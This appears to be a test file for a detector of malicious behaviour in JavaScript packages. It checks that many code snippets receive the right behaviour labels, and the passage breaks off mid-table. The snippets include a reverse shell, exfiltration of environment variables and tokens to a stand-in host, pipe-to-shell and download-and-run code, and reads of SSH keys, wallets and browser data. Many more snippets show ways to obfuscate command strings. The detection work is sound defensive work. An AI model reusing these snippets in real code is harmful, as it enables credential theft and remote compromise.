// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test is text
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { behaviorsOf, type Files, javascriptSequence } from '../helpers/sequence.js';

/**
 * A case: its name, the code, and what must be in the sequence, in this order. `code` alone asks for the row, `code q r`
 * for the row with these qualifiers among its own. `!code` must not be there at all.
 */
type Case = readonly [name: string, code: string | Files, expected: string];

async function check(code: string | Files, expected: string): Promise<void> {
  const found = behaviorsOf(await javascriptSequence(code));
  const shown = found.map((b) => [b.code, ...b.qualifiers].join(' ')).join(' | ');
  let at = 0;
  for (const wanted of expected.split(' | ')) {
    const [row, ...qualifiers] = wanted.split(' ');
    if (row!.startsWith('!')) {
      assert.ok(!found.some((b) => b.code === row!.slice(1)), `${row} in: ${shown}`);
      continue;
    }
    const next = found.findIndex(
      (b, i) => i >= at && b.code === row && qualifiers.every((q) => b.qualifiers.includes(q)),
    );
    assert.notEqual(next, -1, `no '${wanted}' (in order) in: ${shown}`);
    at = next;
  }
}

function table(title: string, cases: readonly Case[]): void {
  describe(title, () => {
    for (const [name, code, expected] of cases) it(name, () => check(code, expected));
  });
}

const URL = 'https://host.invalid';
/** The headers of a Windows program, and nothing in it. */
const PROGRAM = new Uint8Array(128);
PROGRAM.set([0x4d, 0x5a]);
PROGRAM[60] = 64;
PROGRAM.set([0x50, 0x45], 64);
const CP = "require('child_process')";

table('JavaScript rows: information', [
  ['R1', "require('os')", 'R1'],
  ['R3', "import fs from 'node:fs'", 'R3'],
  ['whole environment', 'send(process.env)', 'read-env-all'],
  ['whole environment, spread', 'x = { ...process.env }', 'read-env-all'],
  ['whole environment, keys', 'Object.keys(process.env)', 'read-env-all'],
  ['one variable', 'f(process.env.SOME_FLAG)', 'read-env-variable | !read-env-all'],
  [
    'one variable by destructuring',
    'const { SOME_FLAG } = process.env; f(SOME_FLAG)',
    'read-env-variable | !read-env-all',
  ],
  ['secret variable', 'f(process.env.NPM_TOKEN)', 'read-env-secret'],
  ['host name', "require('os').hostname()", 'read-host-name'],
  ['user name', "require('os').userInfo().username", 'read-user-name'],
  ['home', "require('os').homedir()", 'read-home'],
  ['platform', 'if (process.platform === "win32") f()', 'read-platform'],
  ['network', "require('os').networkInterfaces()", 'read-network-info'],
  ['system', "require('os').cpus()", 'read-system-info'],
  ['working directory', 'f(process.cwd())', 'read-working-directory'],
  ['file', "require('fs').readFileSync('/srv/data.bin')", 'read-file'],
  [
    'own file',
    { 'index.js': "require('fs').readFileSync(__dirname + '/data.txt')", 'data.txt': 'x' },
    'read-own-file',
  ],
  ['directory', "require('fs').readdirSync('/srv')", 'list-directory'],
  ['SSH keys', "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')", 'read-ssh-keys'],
  [
    'SSH keys through path.join',
    "const p=require('path');require('fs').readFileSync(p.join(require('os').homedir(), '.ssh', 'id_rsa'))",
    'read-ssh-keys',
  ],
  [
    'cloud credentials',
    "require('fs').promises.readFile(`${process.env.HOME}/.aws/credentials`)",
    'read-cloud-credentials',
  ],
  [
    'registry token',
    "require('fs/promises').readFile(require('os').homedir() + '/.npmrc')",
    'read-registry-token',
  ],
  [
    'browser',
    "require('fs').copyFileSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Login Data', '/tmp/x')",
    'read-browser-data',
  ],
  ['wallet', "require('fs').readdirSync(process.env.APPDATA + '/Exodus/exodus.wallet')", 'read-wallet'],
  [
    'chat token',
    "require('fs').readdirSync(process.env.APPDATA + '/discord/Local Storage/leveldb')",
    'read-chat-token',
  ],
  ['accounts', "require('fs').readFileSync('/etc/passwd')", 'read-system-accounts'],
  ['processes', "require('child_process').exec('tasklist')", 'read-process-list'],
  ['manifest', "require('fs').readFileSync('./package.json')", 'read-package-manifest'],
  ['clipboard', "require('clipboardy').readSync()", 'read-clipboard'],
  ['screen', "require('screenshot-desktop')()", 'capture-screen'],
  ['keys', "require('iohook').on('keydown', e => e)", 'capture-keys'],
  ['credential store', "require('keytar').findCredentials('x')", 'R5'],
]);

table('JavaScript rows: transmission', [
  ['D1', "require('https')", 'D1'],
  ['D3', `const u = '${URL}/x'`, 'D3 to:other'],
  ['GET', `require('https').get('${URL}')`, 'http-request to:other'],
  [
    'GET to a raw address',
    "require('http').get('http://203.0.113.7:8081/x')",
    'http-request to:ip to:odd-port to:http',
  ],
  [
    'POST with a body',
    `const r=require('https').request({hostname:'host.invalid',method:'POST'});r.write(require('os').hostname());r.end()`,
    'http-send carries:host to:other',
  ],
  [
    'POST chained',
    `require('https').request({host:'host.invalid',method:'POST'}).on('error',()=>{}).end(process.env.AWS_SECRET_ACCESS_KEY)`,
    'http-send carries:credentials to:other',
  ],
  [
    'data in the address',
    `require('https').get('${URL}/?h=' + require('os').hostname())`,
    'http-send carries:host to:other',
  ],
  ['data in a template', `fetch(\`${URL}/\${require('os').hostname()}\`)`, 'http-send carries:host to:other'],
  [
    'fetch',
    `fetch('${URL}', { method: 'POST', body: JSON.stringify(process.env) })`,
    'http-send carries:env to:other',
  ],
  ['axios', `require('axios').post('${URL}', { e: process.env })`, 'http-send carries:env to:other'],
  [
    'axios as a function',
    `require('axios')({ url: '${URL}', method: 'post', data: process.env })`,
    'http-send carries:env to:other',
  ],
  [
    'axios instance',
    `const a=require('axios').create({baseURL:'${URL}'});a.post('/x', process.env)`,
    'http-send carries:env to:other',
  ],
  ['got', `require('got').post('${URL}', { json: process.env })`, 'http-send carries:env'],
  ['node-fetch', `import f from 'node-fetch'; f('${URL}')`, 'http-request to:other'],
  [
    'request',
    `require('request')({ url: '${URL}', method: 'POST', form: process.env })`,
    'http-send carries:env',
  ],
  ['superagent', `require('superagent').post('${URL}').send(process.env)`, 'http-send carries:env'],
  ['undici', `require('undici').request('${URL}')`, 'http-request to:other'],
  [
    'webhook',
    "fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: 'x' })",
    'http-send to:webhook',
  ],
  [
    'form',
    `const F=require('form-data');const f=new F();f.append('a', require('fs').readFileSync('/etc/passwd'));require('axios').post('${URL}', f)`,
    'http-send carries:credentials carries:file',
  ],
  [
    'download',
    `require('https').get('${URL}/a', r => r.pipe(require('fs').createWriteStream('/tmp/a')))`,
    'http-request | download-file path:temp',
  ],
  [
    'downloaded and written',
    `fetch('${URL}/a').then(r => r.text()).then(t => require('fs').writeFileSync('/tmp/a', t))`,
    'write-file carries:download path:temp',
  ],
  ['socket', "require('net').connect(4444, '203.0.113.7')", 'open-socket to:ip to:odd-port'],
  ['TLS', "require('tls').connect({ host: 'host.invalid', port: 443 })", 'open-socket to:other'],
  [
    'web socket',
    "const W=require('ws');new W('wss://host.invalid').send(process.env.HOME)",
    'websocket to:other',
  ],
  ['socket.io', `require('socket.io-client')('${URL}')`, 'websocket to:other'],
  [
    'DNS with data',
    "require('dns').lookup(require('os').hostname() + '.host.invalid', () => {})",
    'dns-query carries:host to:other',
  ],
  ['mail', "require('nodemailer').createTransport({}).sendMail({ text: process.env.HOME })", 'send-mail'],
  ['SFTP', "const C=require('ssh2').Client;new C().connect({ host: 'host.invalid' })", 'file-transfer'],
  ['server', "require('http').createServer((q, s) => s.end()).listen(8080)", 'listen'],
  ['cookies', 'f(document.cookie)', 'browser-store'],
]);

table('JavaScript rows: encoding', [
  ['E1', "require('zlib')", 'E1'],
  [
    'E3',
    `const s = '${Buffer.from('The quick brown fox jumps over the lazy dog, twice.').toString('base64')}'`,
    'E3',
  ],
  ['E4', `const s = '${'0123456789'.repeat(120)}'`, 'E4'],
  ['decode', "Buffer.from(x, 'base64')", 'decode'],
  ['decode, atob', 'f(atob(x))', 'decode'],
  ['encode', "f(Buffer.from(process.env.NPM_TOKEN).toString('base64'))", 'encode carries:credentials'],
  ['decompress', "require('zlib').gunzipSync(x)", 'decompress'],
  ['compress', "require('zlib').gzipSync(x)", 'compress'],
  [
    'archive',
    "const A=require('adm-zip');const z=new A();z.addLocalFolder(require('os').homedir() + '/.ssh')",
    'read-ssh-keys | compress',
  ],
  ['encrypt', "require('crypto').createCipheriv('aes-256-cbc', k, i)", 'encrypt'],
  ['decrypt', "require('crypto').createDecipheriv('aes-256-cbc', k, i)", 'decrypt'],
  ['hash', "require('crypto').createHash('md5').update('x').digest('hex')", 'hash'],
]);

table('JavaScript rows: execution', [
  ['P1', "require('child_process')", 'P1'],
  ['shell', `${CP}.exec('some-tool --flag')`, 'run-shell | run-program'],
  ['program', `${CP}.spawn('some-tool', ['x'])`, 'run-program'],
  [
    'detached and quiet',
    `${CP}.spawn('some-tool', [], { detached: true, stdio: 'ignore' })`,
    'run-program detached quiet',
  ],
  ['inline code', `${CP}.spawn('node', ['-e', 'process.exit(3)'])`, 'run-interpreter | exit-process'],
  [
    'own file',
    { 'index.js': `${CP}.fork(__dirname + '/w.js')`, 'w.js': "require('os').hostname()" },
    'run-own-file | read-host-name',
  ],
  [
    "another package's file, found at run time, is no own file of the same name",
    {
      'index.js': `const p = require('path'); ${CP}.fork(p.join(p.dirname(process.argv[2]), 'w.js')); ${CP}.fork(p.join(process.argv[3], '..', 'w.js'))`,
      'w.js': "require('os').hostname()",
    },
    'run-program program:interpreter | !run-own-file',
  ],
  [
    'own file by process.execPath',
    { 'index.js': `${CP}.spawn(process.execPath, ['w.js'])`, 'w.js': "require('os').hostname()" },
    'run-own-file | read-host-name',
  ],
  ['package manager', `${CP}.execSync('npm config get registry')`, 'run-package-manager'],
  ['install', `${CP}.execSync('npm install x')`, 'install-package'],
  ['build', `${CP}.execSync('node-gyp rebuild')`, 'run-build-tool'],
  ['pipe to shell', `${CP}.exec('curl ${URL} | sh')`, 'pipe-to-shell'],
  ['execa', "import { execa } from 'execa'; execa('some-tool', ['x'])", 'run-program'],
  ['cross-spawn', "require('cross-spawn').sync('some-tool', ['x'])", 'run-program'],
  ['shelljs', "require('shelljs').exec('whoami')", 'run-shell | read-user-name'],
  ['eval', 'eval(x)', 'evaluate'],
  ['eval of known code', `eval("${CP}.exec('whoami')")`, 'evaluate | run-shell'],
  ['Function', `new Function('r', "r('child_process')")(require)`, 'evaluate'],
  ['constructor of a function', `(() => {}).constructor("${CP}.exec('whoami')")()`, 'evaluate | run-shell'],
  ['constructor of a string', `''.constructor.constructor("${CP}.exec('whoami')")()`, 'evaluate | run-shell'],
  ['vm', "require('vm').runInNewContext('x()')", 'evaluate'],
  [
    'module._compile',
    "const M=require('module');new M('x')._compile('process.exit(2)', 'x')",
    'evaluate | exit-process',
  ],
  ['timer with text', "setTimeout('process.exit(2)', 1)", 'evaluate | exit-process'],
  [
    'worker from text',
    "const {Worker}=require('worker_threads');new Worker('process.exit(2)', { eval: true })",
    'evaluate | exit-process',
  ],
  ['data: import', "import('data:text/javascript,process.exit(2)')", 'evaluate-decoded | exit-process'],
  [
    'decoded',
    `eval(Buffer.from('${Buffer.from('process.exit(2)').toString('base64')}', 'base64').toString())`,
    'evaluate-decoded | exit-process hidden',
  ],
  [
    'downloaded',
    `require('https').get('${URL}', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })`,
    'http-request | evaluate-downloaded',
  ],
  [
    'downloaded, await',
    `(async () => { const r = await fetch('${URL}'); eval(await r.text()); })()`,
    'http-request | evaluate-downloaded',
  ],
  [
    'downloaded, axios',
    `require('axios').get('${URL}').then(r => eval(r.data))`,
    'http-request | evaluate-downloaded',
  ],
  ['computed module', 'require(x)', 'dynamic-import'],
  ['native', "process.dlopen({}, '/tmp/x.node')", 'load-native'],
  [
    'native file',
    { 'index.js': "require('./a.node')", 'a.node': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) },
    'load-native',
  ],
  ['binding', "process.binding('spawn_sync')", 'call-native'],
  [
    'binding spawn',
    "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'whoami'] })",
    'call-native | run-program | read-user-name',
  ],
  ['write', "require('fs').writeFileSync('/srv/x', 'y')", 'write-file'],
  [
    'write a program',
    "require('fs').writeFileSync('/tmp/x.exe', y)",
    'write-executable path:temp path:executable',
  ],
  ['make executable', "require('fs').chmodSync('/tmp/x', 0o755)", 'make-executable'],
  ['copy', "require('fs').copyFileSync('/srv/a', '/srv/b')", 'copy-file'],
  [
    'downloaded and run',
    `fetch('${URL}/a').then(r => r.arrayBuffer()).then(b => { require('fs').writeFileSync('/tmp/a', Buffer.from(b)); ${CP}.execFile('/tmp/a') })`,
    'write-file carries:download | run-downloaded',
  ],
  [
    'downloaded, and an argument of another program',
    `fetch('${URL}/a').then(r => r.arrayBuffer()).then(b => { require('fs').writeFileSync('/srv/a.wav', Buffer.from(b)); ${CP}.execFile('ffmpeg', ['-i', '/srv/a.wav']) })`,
    'write-file carries:download | run-program',
  ],
  [
    'downloaded, made executable and run by a shell',
    `fetch('${URL}/a').then(r => r.arrayBuffer()).then(b => { require('fs').writeFileSync('/tmp/a', Buffer.from(b)); ${CP}.exec('chmod +x /tmp/a && nohup /tmp/a &') })`,
    'write-file carries:download | run-downloaded',
  ],
  [
    'reverse shell',
    "const n=require('net'),s=require('child_process').spawn('/bin/sh');const c=new n.Socket();c.connect(4444,'203.0.113.7',()=>{c.pipe(s.stdin);s.stdout.pipe(c)})",
    'open-socket to:ip | connect-shell',
  ],
]);

table('JavaScript rows: persistence, destruction, evasion, concealment', [
  [
    'start-up file',
    "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
    'persist-startup',
  ],
  ['registry', `${CP}.exec('reg add HKCU\\\\Software\\\\X /v a')`, 'persist-registry'],
  [
    'another package',
    "require('fs').writeFileSync(require('path').join(__dirname, '../other/index.js'), 'x')",
    'modify-package',
  ],
  ['git hooks', "require('fs').writeFileSync('.git/hooks/pre-commit', 'x')", 'modify-git-hooks'],
  ['publish', `${CP}.execSync('npm publish')`, 'publish-package'],
  ['module loading', "require('module')._load = function () {}", 'hook-import'],
  ['module prototype', "const M=require('module');M.prototype.require = function () {}", 'hook-import'],
  ['built-in', 'globalThis.fetch = async () => {}', 'override-builtin'],
  ['page wallet', 'window.ethereum.request = async a => a', 'override-builtin'],
  ['delete', "require('fs').unlinkSync('/srv/x')", 'delete-file'],
  ['delete tree', "require('fs').rmSync('/srv', { recursive: true, force: true })", 'delete-tree'],
  ['rimraf', "require('rimraf').sync('/srv')", 'delete-tree'],
  ['kill', 'process.kill(process.ppid)', 'kill-process'],
  ['shut down', `${CP}.exec('shutdown -h now')`, 'shutdown'],
  ['mining', `${CP}.exec('./xmrig -o pool.invalid')`, 'mine-currency'],
  ['CI', 'if (process.env.GITHUB_ACTIONS) process.exit()', 'check-ci | exit-process'],
  ['locale', 'Intl.DateTimeFormat().resolvedOptions().timeZone', 'check-locale'],
  ['privilege', 'process.getuid()', 'check-privilege'],
  ['delay', 'setTimeout(() => process.exit(), 600000)', 'delay | exit-process'],
  ['errors', "process.on('uncaughtException', () => {})", 'silence-errors'],
  ['checks off', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", 'disable-security'],
  ['hidden window', `${CP}.spawn('x', [], { detached: true, windowsHide: true })`, 'hide-window'],
  ['name of the process', "process.title = 'systemd'", 'impersonate'],
  ['long line', `f();${' '.repeat(400)}g()`, 'hide-long-line'],
  ['invisible characters', `const x = '${'\u{e0101}'.repeat(20)}'`, 'hide-unicode'],
  [
    'obfuscated',
    `var ${Array.from({ length: 20 }, (_, i) => `_0x${(0xabc0 + i).toString(16)}`).join(',')};`,
    'obfuscated-code',
  ],
  ['parse failure', 'const const = ;;; )', 'parse-failure'],
]);

const RUN = 'run-shell';
table('JavaScript: ways of naming', [
  ['alias', `const c = ${CP}; const d = c; d.exec('x')`, RUN],
  ['function alias', `const e = ${CP}.exec; e('x')`, RUN],
  ['destructuring', `const { exec } = ${CP}; exec('x')`, RUN],
  ['renamed destructuring', `const { exec: run } = ${CP}; run('x')`, RUN],
  ['nested destructuring', `const { a: { exec } } = { a: ${CP} }; exec('x')`, RUN],
  ['default import', "import cp from 'child_process'; cp.exec('x')", RUN],
  ['namespace import', "import * as cp from 'node:child_process'; cp.exec('x')", RUN],
  ['named import', "import { exec as e } from 'child_process'; e('x')", RUN],
  ['dynamic import', "import('child_process').then(c => c.exec('x'))", RUN],
  ['dynamic import, await', "const c = await import('child_process'); c.exec('x')", RUN],
  ['module.require', "module.require('child_process').exec('x')", RUN],
  ['process.mainModule', "process.mainModule.require('child_process').exec('x')", RUN],
  ['require.main', "require.main.require('child_process').exec('x')", RUN],
  [
    'createRequire',
    "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('x')",
    RUN,
  ],
  ['module constructor', "module.constructor._load('child_process').exec('x')", RUN],
  ['constructor of the main module', "process.mainModule.constructor._load('child_process').exec('x')", RUN],
  [
    'constructor of the main module, by require',
    "require.main.constructor._load('child_process').exec('x')",
    RUN,
  ],
  ['Module of the module', "require('module').Module._load('child_process').exec('x')", RUN],
  ['getBuiltinModule', "process.getBuiltinModule('child_process').exec('x')", RUN],
  ['require under another name', "const r = require; r('child_process').exec('x')", RUN],
  ['globalThis', "globalThis.process.mainModule.require('child_process').exec('x')", RUN],
  ['global, computed', "global['pro' + 'cess']['mainModule']['require']('child_process')['exec']('x')", RUN],
  ['computed member', `${CP}['ex' + 'ec']('x')`, RUN],
  ['member by variable', `const k = 'exec'; ${CP}[k]('x')`, RUN],
  ['call', `${CP}.exec.call(null, 'x')`, RUN],
  ['apply', `${CP}.exec.apply(null, ['x'])`, RUN],
  ['bind', `${CP}.exec.bind(null, 'x')()`, RUN],
  ['Reflect.apply', `Reflect.apply(${CP}.exec, null, ['x'])`, RUN],
  ['Reflect.get', `Reflect.get(${CP}, 'exec')('x')`, RUN],
  ['promisify', `require('util').promisify(${CP}.exec)('x')`, RUN],
  ['wrapper', `function w(c) { return ${CP}.exec(c) } w('x')`, RUN],
  [
    'two wrappers',
    `const a = m => require(m); const b = (m, f, x) => a(m)[f](x); b('child_process', 'exec', 'x')`,
    RUN,
  ],
  ['method', `class A { run(c) { ${CP}.exec(c) } } new A().run('x')`, RUN],
  ['private method', `class A { #r(c) { ${CP}.exec(c) } go() { this.#r('x') } } new A().go()`, RUN],
  ['static block', `class A { static { ${CP}.exec('x') } }`, RUN],
  ['getter', `const o = { get cp() { return ${CP} } }; o.cp.exec('x')`, RUN],
  ['inherited method', `class A { run() { ${CP}.exec('x') } } class B extends A {} new B().run()`, RUN],
  ['callback', `[1].forEach(() => ${CP}.exec('x'))`, RUN],
  ['timer', `setTimeout(() => ${CP}.exec('x'), 5)`, RUN],
  ['promise', `new Promise(r => r(${CP})).then(c => c.exec('x'))`, RUN],
  ['Promise.all', `Promise.all([${CP}]).then(([c]) => c.exec('x'))`, RUN],
  ['event', `process.on('exit', () => ${CP}.exec('x'))`, RUN],
  [
    'own emitter',
    `const E=require('events');const e=new E();e.on('a', () => ${CP}.exec('x'));e.emit('a')`,
    RUN,
  ],
  ['generator', `function* g() { yield ${CP} } for (const c of g()) c.exec('x')`, RUN],
  [
    'exports of another file',
    { 'index.js': "require('./a').run('x')", 'a.js': `exports.run = c => ${CP}.exec(c)` },
    RUN,
  ],
  [
    're-export',
    {
      'index.js': "import { exec } from './a.js'; exec('x')",
      'a.js': "export * from './b.js'",
      'b.js': "export { exec } from 'child_process'",
    },
    RUN,
  ],
  [
    'module.exports = require',
    { 'index.js': "require('./a').exec('x')", 'a.js': `module.exports = ${CP}` },
    RUN,
  ],
  ['folder module', { 'index.js': "require('./lib')", 'lib/index.js': `${CP}.exec('x')` }, RUN],
  [
    'JSON',
    { 'index.js': `${CP}.exec(require('./c.json').cmd)`, 'c.json': '{"cmd":"whoami"}' },
    'run-shell | read-user-name',
  ],
  ['with', `with (${CP}) { exec('x') }`, RUN],
  ['comma call', `(0, ${CP}.exec)('x')`, RUN],
  [
    'what eval gives',
    `eval('(function (c) { ${CP.replaceAll("'", '"')}.exec(c) })')('x')`,
    `evaluate | ${RUN}`,
  ],
  ['optional call', `${CP}?.exec?.('x')`, RUN],
  [
    'TypeScript',
    {
      'index.js': "require('./a.ts')",
      'a.ts': "import cp = require('child_process'); const c: string = 'x'; (cp as any).exec(c!)",
    },
    RUN,
  ],
  ['IIFE with arguments', `(function (r, m) { r(m).exec('x') })(require, 'child_process')`, RUN],
  ['Proxy', `new Proxy(${CP}, {}).exec('x')`, RUN],
  ['array of functions', `[${CP}.exec][0]('x')`, RUN],
  ['switch', `switch (1) { case 1: ${CP}.exec('x') }`, RUN],
  ['labelled loop', `a: for (;;) { ${CP}.exec('x'); break a }`, RUN],
  ['after an exit', `process.exit(); ${CP}.exec('x')`, RUN],
  ['behind a false condition', `if (false) { ${CP}.exec('x') }`, RUN],
  ['function nobody calls', `function f() { ${CP}.exec('x') }`, RUN],
]);

const WHO = 'run-shell | read-user-name';
const exec = (expression: string, before = ''): string => `${before};${CP}.exec(${expression})`;
const bytes = [...'whoami'].map((c) => c.charCodeAt(0));
table('JavaScript: strings evaluated', [
  ['concatenation', exec("'who' + 'ami'"), WHO],
  ['template', exec('`${a}ami`', "const a = 'who'"), WHO],
  ['+=', exec('s', "let s = 'who'; s += 'ami'"), WHO],
  ['join', exec("['who', 'ami'].join('')"), WHO],
  ['reverse', exec("'imaohw'.split('').reverse().join('')"), WHO],
  ['spread reverse', exec("[...'imaohw'].reverse().join('')"), WHO],
  ['slice', exec("'xxwhoamixx'.slice(2, -2)"), WHO],
  ['substring, substr, charAt', exec("'xwho'.substring(1) + 'ami'.substr(0, 2) + 'i'.charAt(0)"), WHO],
  ['replace', exec("'wh_am_'.replace('_', 'o').replace(/_/g, 'i')"), WHO],
  [
    'replace with a function',
    exec("'vgn`lh'.replace(/./g, c => String.fromCharCode(c.charCodeAt(0) + 1))"),
    WHO,
  ],
  ['case', exec("'WHOAMI'.toLowerCase()"), WHO],
  ['char codes', exec(`String.fromCharCode(${bytes.join()})`), WHO],
  ['char codes, apply', exec(`String.fromCharCode.apply(null, [${bytes.join()}])`), WHO],
  ['char codes, spread', exec(`String.fromCharCode(...[${bytes.join()}])`), WHO],
  ['char codes, map', exec(`[${bytes.join()}].map(c => String.fromCharCode(c)).join('')`), WHO],
  [
    'shifted char codes',
    exec(`[${bytes.map((b) => b + 3).join()}].map(c => String.fromCharCode(c - 3)).join('')`),
    WHO,
  ],
  ['reduce', exec(`[${bytes.join()}].reduce((s, c) => s + String.fromCharCode(c), '')`), WHO],
  ['byte array', exec(`Buffer.from([${bytes.join()}]).toString()`), WHO],
  ['Uint8Array and TextDecoder', exec(`new TextDecoder().decode(new Uint8Array([${bytes.join()}]))`), WHO],
  ['hex', exec(`Buffer.from('${Buffer.from('whoami').toString('hex')}', 'hex').toString()`), WHO],
  [
    'hex, by hand',
    exec(
      `'${Buffer.from('whoami').toString('hex')}'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join('')`,
    ),
    WHO,
  ],
  [
    'base64',
    exec(`Buffer.from('${Buffer.from('whoami').toString('base64')}', 'base64').toString('utf8')`),
    WHO,
  ],
  ['atob', exec(`atob('${Buffer.from('whoami').toString('base64')}')`), WHO],
  ['URL', exec("decodeURIComponent('%77%68%6f%61%6d%69')"), WHO],
  ['unescape', exec("unescape('%77%68%6f%61%6d%69')"), WHO],
  ['escapes', exec("'\\x77\\u0068\\x6f\\u{61}mi'"), WHO],
  [
    'rot13',
    exec("'jubnzv'.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97))"),
    WHO,
  ],
  ['xor', exec(`[${bytes.map((b) => b ^ 42).join()}].map(b => String.fromCharCode(b ^ 42)).join('')`), WHO],
  [
    'xor in a loop',
    exec(
      's',
      `let s = ''; const d = [${bytes.map((b) => b ^ 7).join()}]; for (let i = 0; i < d.length; i++) s += String.fromCharCode(d[i] ^ 7)`,
    ),
    WHO,
  ],
  [
    'xor over a buffer',
    exec(
      'b.toString()',
      `const b = Buffer.from([${bytes.map((b) => b ^ 9).join()}]); for (let i = 0; i < b.length; i++) b[i] ^= 9`,
    ),
    WHO,
  ],
  [
    'gzip',
    exec(
      `require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAAAAyvPyE/MzQQAsUAZJAYAAAA=', 'base64')).toString()`,
    ),
    'run-shell',
  ],
  ['ternary', exec("true ? 'whoami' : 'x'"), WHO],
  ['object lookup', exec('o.a + o["b"]', "const o = { a: 'who', b: 'ami' }"), WHO],
  [
    'array lookup with a function',
    exec('g(1) + g(0)', "const t = ['ami', 'who']; function g(i) { return t[i - 0] }"),
    WHO,
  ],
  [
    'rotated array',
    exec(
      't[0] + t[1]',
      "const t = ['ami', 'who']; (function (a, n) { while (--n) a.push(a.shift()) })(t, 2)",
    ),
    WHO,
  ],
  ['JSON', exec(`JSON.parse('{"c":"whoami"}').c`), WHO],
  ['number in base 36', exec('(1964604618).toString(36)'), 'run-shell | read-user-name'],
  [
    'while and switch',
    exec(
      's',
      "let s = '', o = '1|0'.split('|'), i = 0; while (true) { switch (o[i++]) { case '0': s += 'ami'; continue; case '1': s += 'who'; continue } break }",
    ),
    WHO,
  ],
]);

describe('JavaScript: out of reach', () => {
  it('a module name that only a request gives');
  it('a string whose key is read from the clock or from random numbers');
  it('text decoded by WebAssembly');
  it('methods replaced at run time through an index that only the caller knows');
  it('a regular expression with a shape that could backtrack without end, over long text');
});

describe('JavaScript: hostile input', () => {
  const HOSTILE: readonly [string, string][] = [
    ['deep brackets', '['.repeat(100_000)],
    ['deep functions', `${'(function(){'.repeat(3000)}${'})()'.repeat(3000)}`],
    ['long sum', `x = 'a'${" + 'a'".repeat(20_000)}`],
    ['long chain of calls', `x${'.a()'.repeat(20_000)}`],
    ['long chain of else if', `${'if (x) {} else '.repeat(5000)}{}`],
    ['endless recursion', 'function f(a) { return f(a + 1) + f(a + 2) } f(0)'],
    ['endless loop', "let s = 'a'; while (true) { s += s }"],
    ['growing array', 'const a = [1]; for (;;) a.push(...a)'],
    ['repeated doubling', "eval('x'.repeat(1e9)); 'ab'.padEnd(1e9)"],
    [
      'expression that backtracks',
      `/(a+)+$/.test('${'a'.repeat(40)}!'); '${'a'.repeat(5000)}'.match(/a*a*a*a*b/)`,
    ],
    [
      'prototype names',
      "const o = {}; o['__proto__'].x = 1; o.constructor.constructor('x()')(); ({}).hasOwnProperty.call(o, 'x')",
    ],
    ['cyclic value', 'const a = []; a.push(a); String(a); JSON.stringify(a); const o = {}; o.o = o; f(o)'],
    ['odd bytes', '\u0000\ufeff\u2028\ud800 x'],
  ];
  for (const [name, code] of HOSTILE) {
    it(name, async () => {
      const sequence = await javascriptSequence(code);
      assert.ok(sequence.stats.steps > 0 || behaviorsOf(sequence).some((b) => b.code === 'parse-failure'));
    }).timeout(60_000);
  }
});

const SCRIPT = "require('https').get('https://host.invalid/' + process.env.NPM_TOKEN)";
table('JavaScript: files of another package', [
  ['written', "require('fs').writeFileSync(require.resolve('other'), 'x')", 'modify-package path:package'],
  [
    'written beside its manifest',
    "const p = require('path'); require('fs').writeFileSync(p.join(p.dirname(require.resolve('@a/other/package.json')), 'lib/x.js'), 'x')",
    'modify-package path:package',
  ],
  ['its code put into the cache', "require.cache[require.resolve('other')] = { exports: {} }", 'hook-import'],
  ['loaded', "require(require.resolve('child_process')).exec('whoami')", 'P1 | run-shell | read-user-name'],
  ['loaded, of another package', "require(require.resolve('cross-spawn')).sync('whoami')", 'run-program'],
  [
    'loaded from its folder',
    "const p = require('path'); require(p.join(p.dirname(require.resolve('mz/package.json')), 'fs')).readFile('/srv/x')",
    'R3 | !dynamic-import',
  ],
  [
    'its program run',
    `${CP}.spawn(process.execPath, [require.resolve('other/bin/x.js')])`,
    'run-program program:interpreter | !modify-package',
  ],
  [
    'copied out under its own name',
    "const p = require('path'); require('fs').writeFileSync(p.join('dist', p.basename(require.resolve('other/x.css'))), 'x')",
    'write-file | !modify-package',
  ],
  [
    'a file of its own',
    { 'index.js': "require('fs').writeFileSync(require.resolve('./x.js'), 'x')", 'x.js': '' },
    'write-file | !modify-package',
  ],
  [
    'a file of its own, by its name',
    { 'index.js': "require(require.resolve('./x.js'))", 'x.js': `${CP}.exec('whoami')` },
    'run-shell | read-user-name',
  ],
]);

table('JavaScript: what comes in, what was written', [
  [
    'a request of a browser with a body',
    "const x = new XMLHttpRequest(), y = new XMLHttpRequest(); x.open('POST', 'https://host.invalid'); y.open('POST', f()); x.send(JSON.stringify(process.env))",
    'http-send to:other | http-send to:unknown | http-send carries:env to:other',
  ],
  [
    'an answer to a handler that is a property',
    "const x = new XMLHttpRequest(); x.open('GET', 'https://host.invalid'); x.onload = () => eval(x.responseText); x.send()",
    'http-request to:other | evaluate-downloaded',
  ],
  [
    'the answer that came with an error',
    "require('axios').get('https://host.invalid').then((r) => r.data).catch((e) => new Function('require', e.response.data)(require))",
    'http-request | evaluate-downloaded',
  ],
  [
    'a module that was downloaded',
    "const f = require('path').join(require('os').tmpdir(), 'x.js'); fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(f, t); require(f) })",
    'write-file carries:download | run-downloaded',
  ],
  [
    'a module that was downloaded beside the code',
    "fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(__dirname + '/x.js', t); require('./x') })",
    'write-file carries:download | run-downloaded',
  ],
  ['a module that is not there', "require('./gone'); require('/x/y')", '!run-downloaded'],
  [
    'a message to a handler that is a property',
    `const w = new WebSocket('wss://host.invalid'); w.onopen = () => w.send(require('os').hostname()); w.onmessage = (m) => ${CP}.exec(m.data)`,
    'websocket to:other | websocket carries:host | run-shell carries:download',
  ],
  [
    'a request body that is run',
    `require('http').createServer((q, r) => { let b = []; q.on('data', (c) => b.push(c)).on('end', () => ${CP}.exec(Buffer.concat(b).toString())) }).listen(1)`,
